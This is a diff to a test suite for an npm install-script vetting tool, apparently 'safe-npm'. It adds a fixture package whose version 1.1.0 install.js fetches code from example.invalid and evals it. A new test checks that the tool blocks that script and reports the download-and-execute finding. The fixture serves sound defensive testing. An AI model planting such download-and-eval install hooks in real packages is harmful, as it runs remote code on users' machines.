@@ -49,6 +49,15 @@ beforeAll(async () => {
       // Build tools (gyp's copy step, esbuild) hard-link their outputs.
       pkg('hardlinker', '1.0.0', { scripts: { postinstall: `node -e "require('fs').writeFileSync('built.node', 'x'); require('fs').linkSync('built.node', 'copy.node')"` } }),
       pkg('changing-e', '1.0.0', { scripts: { postinstall: mark('e-marker') } }),
+      // Issue 11: the same script command, but the file it runs now downloads and evaluates code.
+      pkg('content-fixture', '1.0.0', { scripts: { postinstall: 'node install.js' } }, { 'install.js': "require('fs').writeFileSync('ran-1.0.0', 'x');\n" }),
+      pkg('content-fixture', '1.1.0', { scripts: { postinstall: 'node install.js' } }, {
+        'install.js': [
+          "require('fs').writeFileSync('ran-1.1.0', 'x');",
+          "const https = require('https');",
+          "https.get('https://example.invalid/stage2.js', (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => eval(b)); });",
+        ].join('\n'),
+      }),
       pkg('changing-e', '1.1.0', { scripts: { postinstall: `${mark('e-marker')} && echo changed` } }),
       pkg('nosy-f', '1.0.0', { scripts: { postinstall: 'node probe.js' } }, {
         'probe.js': [
@@ -70,8 +79,8 @@ afterAll(async () => {
   listener?.close();
 });
 
-async function setup(owner: 'nobody' | 'root' = 'nobody') {
-  const project = await makeProject({ owner });
+async function setup(owner: 'nobody' | 'root' = 'nobody', packageJson?: Record<string, unknown>) {
+  const project = await makeProject({ owner, packageJson });
   const sandbox = await makeSandbox({ registry: registry.url });
   const run = (args: string[], env: Record<string, string> = {}) =>
     // SAFE_NPM_YES accepts the fixtures' warn findings (few versions): this suite is about scripts,
@@ -84,6 +93,21 @@ const markerLines = (project: string, pkgName: string, file: string) =>
   existsSync(join(project, 'node_modules', pkgName, file))
     ? readFileSync(join(project, 'node_modules', pkgName, file), 'utf8').trim().split('\n').map((l) => l.split(' '))
     : [];
+
+describe('install-script content (issue 11)', () => {
+  it('an approved name whose script now downloads and evaluates code is blocked, with file and line', async () => {
+    // allowScripts approves every version of "content-fixture" (npm's meaning of a bare name).
+    const { project, run } = await setup('nobody', { name: 'p', version: '1.0.0', private: true, allowScripts: { 'content-fixture': true } });
+    const first = await run(['install', 'content-fixture@1.0.0']);
+    expect(first.exitCode, show(first)).toBe(0);
+    expect(existsSync(join(project, 'node_modules/content-fixture/ran-1.0.0'))).toBe(true);
+    const second = await run(['install', 'content-fixture@1.1.0']);
+    expect(second.exitCode, show(second)).toBe(65);
+    expect(existsSync(join(project, 'node_modules/content-fixture/ran-1.1.0')), 'the blocked script must not run').toBe(false);
+    expect(second.stderr).toContain('blocked: the install scripts of content-fixture@1.1.0');
+    expect(second.stderr).toMatch(/install\.js:3: evaluates code at run time in a file that downloads \(network call on line 3\) \[download-execute\]/);
+  });
+});
 
 describe('vetted install-script replay through safe-npm', () => {
   it('approved scripts run dependencies first, as the non-root owner; unapproved ones are withheld and listed', async () => {
